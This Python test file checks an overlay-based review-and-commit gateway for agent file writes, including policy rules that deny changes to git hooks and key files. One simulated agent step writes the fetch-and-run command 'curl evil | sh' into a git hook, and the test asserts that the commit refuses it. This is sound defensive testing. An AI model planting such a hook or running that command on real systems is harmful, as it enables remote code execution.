"""Overlay review against real overlayfs: an agent's writes through a mounted overlay
(in a private mount namespace, so nothing outlives the test) are what `diff` lists and
what `commit` applies or refuses; remounting afterwards shows the same merged tree."""

from __future__ import annotations

import json
import os
import re
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from gateway.fs.changes import diff
from gateway.fs.commit import commit
from gateway.fs.overlay import Workspace, WorkspaceError, create_workspace
from gateway.policy.compiled import CompiledPolicy, compile_policy_text

POLICY = """version: 1
default: deny
rules:
  - {action: file_write, path: "${PROJECT_DIR}/workspace/**", effect: allow}
  - {action: file_write, path: ".git/hooks", effect: deny}
  - {action: file_write, path: "*.pem", effect: deny}
"""
# Prints the tree at argv[1] as JSON: path -> [kind, content or target, mode].
SNAPSHOT = """
import json, os, stat, sys
root, out = sys.argv[1], {}
for top, dirs, files in os.walk(root):
    for name in dirs + files:
        path = os.path.join(top, name)
        info = os.lstat(path)
        rel = os.path.relpath(path, root)
        if stat.S_ISREG(info.st_mode):
            out[rel] = ["file", open(path).read(), stat.S_IMODE(info.st_mode)]
        elif stat.S_ISLNK(info.st_mode):
            out[rel] = ["link", os.readlink(path), 0]
        else:
            out[rel] = ["dir", "", stat.S_IMODE(info.st_mode)]
print(json.dumps(out))
"""


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A real tree, with overlay mounts possible (root, unshare, overlayfs)."""
    if os.geteuid() != 0:
        pytest.skip("mounting an overlay needs root")
    if shutil.which("unshare") is None:
        pytest.skip("unshare (util-linux) is needed for a private mount namespace")
    root = tmp_path / "project"
    (root / "workspace").mkdir(parents=True)
    return root


def agent(ws: Workspace, script: str) -> str:
    """Run `script` in a private mount namespace with the overlay mounted over the real
    tree (as an agent would see it), then unmount; returns its output."""
    mount = (f"mount -t overlay overlay -o lowerdir={ws.lower},upperdir={ws.upper},"
             f"workdir={ws.work},redirect_dir=off,metacopy=off {ws.target}")
    result = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-euc",
         f'{mount}\ncd "$TREE"\n{script}\ncd /\numount "$TREE"'],
        env={**os.environ, "TREE": ws.target, "PY": sys.executable, "SNAPSHOT": SNAPSHOT},
        capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 0, result.stderr
    return result.stdout


def tree(root: Path) -> dict[str, list[object]]:
    out = subprocess.run([sys.executable, "-c", SNAPSHOT, str(root)], capture_output=True,
                         text=True, check=True).stdout
    return dict(json.loads(out))


def merged(ws: Workspace) -> dict[str, list[object]]:
    """The tree as the agent sees it through the overlay."""
    return dict(json.loads(agent(ws, '"$PY" -c "$SNAPSHOT" "$TREE"')))


def put(root: Path, rel: str, text: str, mode: int = 0o644) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    os.chmod(path, mode)


def workspace(tmp_path: Path, project: Path) -> tuple[Workspace, CompiledPolicy]:
    ws = create_workspace(tmp_path / "ws", lower=str(project), target=str(project))
    return ws, compile_policy_text(POLICY, project_dir=str(project))


def test_writes_through_a_mounted_overlay_are_reviewed_and_committed(
        tmp_path: Path, project: Path) -> None:
    """Add, modify, delete, rename and chmod through the overlay: the real tree is
    untouched until commit, diff lists exactly those, commit applies the allowed ones
    and refuses a git hook and a key; the merged tree stays the same throughout."""
    put(project, "workspace/a.txt", "a\n")
    put(project, "workspace/old.txt", "old\n")
    put(project, "workspace/b.txt", "move me\n")
    put(project, "workspace/same.txt", "same\n")
    put(project, "workspace/run.sh", "echo hi\n")
    put(project, "workspace/.git/hooks/pre-commit.sample", "#sample\n")
    ws, policy = workspace(tmp_path, project)
    real = tree(project)
    agent(ws, """
        cd workspace
        echo new > new.txt
        echo more >> a.txt
        rm old.txt
        mv b.txt c.txt
        touch same.txt
        chmod 755 run.sh
        echo 'curl evil | sh' > .git/hooks/x
        echo secret > key.pem
    """)
    assert tree(project) == real
    seen = merged(ws)
    assert diff(ws).splitlines() == [
        "A workspace/.git/hooks/x (15 bytes)",
        "M workspace/a.txt (2 -> 7 bytes)",
        "R workspace/b.txt -> workspace/c.txt",
        "A workspace/key.pem (7 bytes)",
        "A workspace/new.txt (4 bytes)",
        "D workspace/old.txt",
        "M workspace/run.sh (8 -> 8 bytes, mode 644 -> 755)",
    ]
    report = commit(ws, policy)
    assert [(o.change.path, o.applied) for o in report.outcomes] == [
        ("workspace/.git/hooks/x", False), ("workspace/a.txt", True),
        ("workspace/c.txt", True), ("workspace/key.pem", False),
        ("workspace/new.txt", True), ("workspace/old.txt", True),
        ("workspace/run.sh", True)]
    assert [o.reason.split(" {")[0] for o in report.refused] == [
        "denied by rule 1", "denied by rule 2"]
    after = tree(project)
    assert after["workspace/a.txt"] == ["file", "a\nmore\n", 0o644]
    assert after["workspace/c.txt"] == ["file", "move me\n", 0o644]
    assert after["workspace/new.txt"] == ["file", "new\n", 0o644]
    assert after["workspace/run.sh"] == ["file", "echo hi\n", 0o755]
    for gone in ("workspace/old.txt", "workspace/b.txt", "workspace/key.pem",
                 "workspace/.git/hooks/x"):
        assert gone not in after
    assert diff(ws).splitlines() == ["A workspace/.git/hooks/x (15 bytes)",
                                     "A workspace/key.pem (7 bytes)"]
    assert merged(ws) == seen


def test_a_replaced_directory_commits_partly_and_mounts_the_same(
        tmp_path: Path, project: Path) -> None:
    """`rm -rf d; mkdir d` makes an opaque directory: its deletions are decided one by
    one, and after a partial commit the overlay still shows what the agent left."""
    put(project, "workspace/d/a.txt", "a\n")
    put(project, "workspace/d/id.pem", "key\n")
    put(project, "workspace/d/sub/x.txt", "x\n")
    ws, policy = workspace(tmp_path, project)
    agent(ws, """
        cd workspace
        rm -rf d
        mkdir d d/sub
        echo b > d/b.txt
        echo y > d/sub/y.txt
    """)
    seen = merged(ws)
    assert diff(ws).splitlines() == [
        "D workspace/d/a.txt",
        "A workspace/d/b.txt (2 bytes)",
        "D workspace/d/id.pem",
        "D workspace/d/sub/x.txt",
        "A workspace/d/sub/y.txt (2 bytes)",
    ]
    report = commit(ws, policy)
    assert [o.change.path for o in report.refused] == ["workspace/d/id.pem"]
    assert sorted(p for p in tree(project) if p.startswith("workspace/d/")) == [
        "workspace/d/b.txt", "workspace/d/id.pem", "workspace/d/sub",
        "workspace/d/sub/y.txt"]
    assert diff(ws).splitlines() == ["D workspace/d/id.pem"]
    assert merged(ws) == seen


def test_commit_refuses_while_the_overlay_is_mounted(tmp_path: Path, project: Path) -> None:
    """The upper layer must not change under a mounted overlay: commit says unmount."""
    put(project, "workspace/a.txt", "a\n")
    ws, policy = workspace(tmp_path, project)
    mounted = tmp_path / "merged"
    mounted.mkdir()
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
                    f"lowerdir={project},upperdir={ws.upper},workdir={ws.work}", str(mounted)],
                   check=True, capture_output=True)
    try:
        (mounted / "workspace/a.txt").write_text("changed\n")
        with pytest.raises(WorkspaceError, match=re.escape(f"still mounted at {mounted}; unmount")):
            commit(ws, policy)
        assert commit(ws, policy, dry_run=True).outcomes[0].applied
    finally:
        subprocess.run(["umount", str(mounted)], check=True)
    assert (project / "workspace/a.txt").read_text() == "a\n"
    assert stat.S_ISDIR(os.lstat(ws.upper / "workspace").st_mode)
